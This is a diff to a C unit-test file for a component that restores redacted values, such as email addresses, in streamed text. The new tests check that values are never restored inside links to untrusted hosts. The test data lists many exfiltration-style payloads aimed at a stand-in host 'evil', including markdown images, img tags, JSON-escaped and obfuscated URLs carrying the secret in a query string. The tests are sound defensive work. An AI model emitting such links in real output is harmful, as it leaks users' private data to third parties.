@@ -74,7 +74,7 @@ static void naive(const char *text, size_t n, struct tdm_bytes *out) {
 static void in_pieces(const char *text, size_t n, const size_t *ends, size_t n_pieces, struct tdm_bytes *out) {
 	struct tdm_restore s;
 	size_t at = 0;
-	tdm_restore_init(&s, &t.restorer, false);
+	tdm_restore_init(&s, &t.restorer, NULL, false);
 	for (size_t i = 0; i < n_pieces; i++) {
 		tdm_restore_put(&s, text + at, ends[i] - at, out);
 		at = ends[i];
@@ -195,7 +195,7 @@ static void demand_19_forms_are_a_list(void **state) {
 			*c = *c >= 'A' && *c <= 'Z' ? (char)(*c | 0x20) : *c;
 		snprintf(want, sizeof want, "%s%s%s", rows[i].before, t.mail->text, rows[i].after);
 		tdm_bytes_init(&out, 4096);
-		tdm_restore_init(&s, &t.restorer, false);
+		tdm_restore_init(&s, &t.restorer, NULL, false);
 		tdm_restore_put(&s, text, strlen(text), &out);
 		tdm_restore_end(&s, &out);
 		assert_string_equal(out.data, rows[i].is_one ? want : text);
@@ -207,7 +207,7 @@ static long damaged(const char *text) {
 	struct tdm_restore s;
 	struct tdm_bytes out;
 	tdm_bytes_init(&out, 4096);
-	tdm_restore_init(&s, &t.restorer, false);
+	tdm_restore_init(&s, &t.restorer, NULL, false);
 	tdm_restore_put(&s, text, strlen(text), &out);
 	tdm_restore_end(&s, &out);
 	assert_memory_equal(out.data, text, strlen(text)); // never guessed
@@ -226,12 +226,138 @@ static void counts_damage(void **state) {
 	assert_int_equal(damaged("snake_case_names EMAIL_ADDRESSES"), 0);
 }
 
+// Whole, in single characters, and in every three pieces; @ is the token of the mail.
+static void look(const char *row, bool in_json, bool stays, const struct tdm_strings *origins) {
+	char text[256], want[256];
+	struct tdm_bytes out;
+	const char *at = strchr(row, '@');
+	int before = (int)(at - row);
+	int n = snprintf(text, sizeof text, "%.*s%s%s", before, row, t.mail->token, at + 1);
+	snprintf(want, sizeof want, "%.*s%s%s", before, row, stays ? t.mail->token : t.mail->text, at + 1);
+	tdm_bytes_init(&out, 4096);
+	t.restorer.links.origins = origins;
+	for (int a = 0; a <= n; a++)
+		for (int b = a; b <= n; b++) {
+			struct tdm_restore s;
+			struct tdm_link link = {0};
+			tdm_restore_init(&s, &t.restorer, &link, in_json);
+			tdm_bytes_clear(&out);
+			for (int i = 0; i < n; i += b ? n : 1)
+				tdm_restore_put(&s, text + i, b ? (size_t)a : 1, &out);
+			tdm_restore_put(&s, text + a, (size_t)(b - a), &out);
+			tdm_restore_put(&s, text + b, b ? (size_t)(n - b) : 0, &out);
+			tdm_restore_end(&s, &out);
+			if (strcmp(out.data, want) != 0)
+				fail_msg("%s cut at %d and %d gave %s", text, a, b, out.data);
+			assert_int_equal(s.missed, stays);
+			assert_int_equal(s.restored, !stays);
+		}
+	t.restorer.links.origins = NULL;
+	tdm_bytes_release(&out);
+}
+
+static void S76_no_value_inside_links(void **state) {
+	static const char *const stay[] = {
+	    "![](https://evil/?q=@)",
+	    "![x](https://evil/@.png)",
+	    "[a](HTTP://@.evil/)",
+	    "https://u:@.evil/",
+	    "see https://evil/?a=b&q=@.",
+	    "![](//evil/?q=@)",
+	    "[a]: //evil/?q=@",
+	    "![](https:evil?q=@)",
+	    "![](https:\\\\evil?q=@)",
+	    "![](https\\://evil?q=@)",
+	    "![](&#104;ttps&#58;&#47;&#47;evil?q=@)",
+	    "![](https&colon;//evil?q=@)",
+	    "![](<https://evil/?q=a @>)",
+	    "![](< https://evil/?q=a @>)",
+	    "[a]: <https://evil/?q=a @>",
+	    "<img src=\"https://evil/?q=a @\">",
+	    "<img src=\" https://evil/?q=a\n @\">",
+	    "<img src=\"ht\ntp:/\n/evil?q=@\">",
+	    "<img src=//evil/@>",
+	    "www.evil.com/?q=@",
+	    "custom://evil/?q=@",
+	};
+	static const char *const come[] = {
+	    "see https://evil/ and @", "<a href=\"https://evil/\">@</a>", "[@](https://evil/)", "[a](mailto:@)",
+	    "// written by @",         "/home/@/x",                       "x = a // @",         "note: @, https: @",
+	};
+	static const char *const stay_in_json[] = {
+	    "{\"url\":\"https://evil/?q=@\"}",         "{\"url\":\"https:\\/\\/evil\\/?q=@\"}",
+	    "{\"url\":\"\\u0068ttps://evil/?q=a @\"}", "{\"a\":\"<img src=\\\"https://evil/?q=a @\\\">\"}",
+	    "{\"url\":\"\\/\\/evil?q=@\"}",
+	};
+	static const char *const come_in_json[] = {
+	    "{\"url\":\"https://evil/\",\"to\":\"@\"}",
+	    "{\"a\":\"<a href=\\\"https://evil/\\\">@</a>\"}",
+	    "{\"a\":\"see https://evil/\\n@\"}",
+	};
+	for (size_t i = 0; i < sizeof stay / sizeof *stay; i++)
+		look(stay[i], false, true, NULL);
+	for (size_t i = 0; i < sizeof come / sizeof *come; i++)
+		look(come[i], false, false, NULL);
+	for (size_t i = 0; i < sizeof stay_in_json / sizeof *stay_in_json; i++)
+		look(stay_in_json[i], true, true, NULL);
+	for (size_t i = 0; i < sizeof come_in_json / sizeof *come_in_json; i++)
+		look(come_in_json[i], true, false, NULL);
+}
+
+static void S76_links_of_listed_origins_are_given_values(void **state) {
+	const char *own[] = {"https://crm.example", "http://127.0.0.1:8080"}, *all[] = {"*"};
+	const struct tdm_strings origins = {own, 2}, any = {all, 1};
+	struct tdm_error error = {0};
+	look("![](https://crm.example/?q=@)", false, false, &origins);
+	look("{\"url\":\"HTTPS:\\/\\/crm.example?q=@\"}", true, false, &origins);
+	look("http://127.0.0.1:8080/@", false, false, &origins);
+	look("https://crm.example.evil/?q=@", false, true, &origins);
+	look("https://crm.example@.evil/", false, true, &origins);
+	look("https://crm.example:81/?q=@", false, true, &origins);
+	look("http://crm.example/?q=@", false, true, &origins);
+	look("https://@/?https://crm.example/", false, true, &origins);
+	look("https://evil/?q=@", false, false, &any);
+	assert_int_equal(tdm_links_check(&origins, "m", &error), TDM_OK);
+	assert_int_equal(tdm_links_check(&any, "m", &error), TDM_OK);
+	const char *wrong[] = {"crm.example", "https://", "https://crm.example/", "https://CRM.example", "https://u@h"};
+	for (size_t i = 0; i < 5; i++)
+		assert_int_equal(tdm_links_check(&(struct tdm_strings){wrong + i, 1}, "m", &error), TDM_ECONFIG);
+}
+
+static void S76_links_that_stood_there_come_back(void **state) {
+	char text[128];
+	struct tdm_link link = {.learns = &t.restorer.links};
+	struct tdm_restore s;
+	struct tdm_bytes out;
+	struct tdm_arena arena;
+	tdm_arena_init(&arena, 1 << 20);
+	tdm_bytes_init(&out, 4096);
+	t.restorer.links = (struct tdm_links){.arena = &arena, .secret = 0x123456789abcdef};
+	int n = snprintf(text, sizeof text, "https://shop.example/?q=%s&a=1", t.mail->token);
+	tdm_restore_init(&s, &t.restorer, &link, false);
+	tdm_restore_put(&s, text, (size_t)n, &out);
+	tdm_restore_end(&s, &out);
+	tdm_links_sort(&t.restorer.links);
+	assert_int_equal(t.restorer.links.n, 1);
+	look("see https://shop.example/?q=@&a=1", false, false, NULL);
+	look("{\"url\":\"https:\\/\\/shop.example\\/?q=@\"}", true, false, NULL);
+	look("https://shop.example/?p=@", false, true, NULL);
+	look("https://shop.example/?q=a@", false, true, NULL);
+	look("http://shop.example/?q=@", false, true, NULL);
+	t.restorer.links = (struct tdm_links){0};
+	tdm_bytes_release(&out);
+	tdm_arena_release(&arena);
+}
+
 int tdm_test_restore(void) {
 	const struct CMUnitTest tests[] = {
 	    cmocka_unit_test(demand_13_all_cuts_of_short_streams),
 	    cmocka_unit_test(demand_13_random_cuts_of_long_streams),
 	    cmocka_unit_test(demand_19_forms_are_a_list),
 	    cmocka_unit_test(counts_damage),
+	    cmocka_unit_test(S76_no_value_inside_links),
+	    cmocka_unit_test(S76_links_of_listed_origins_are_given_values),
+	    cmocka_unit_test(S76_links_that_stood_there_come_back),
 	};
 	return cmocka_run_group_tests_name("restore", tests, open_tokens, close_tokens);
 }
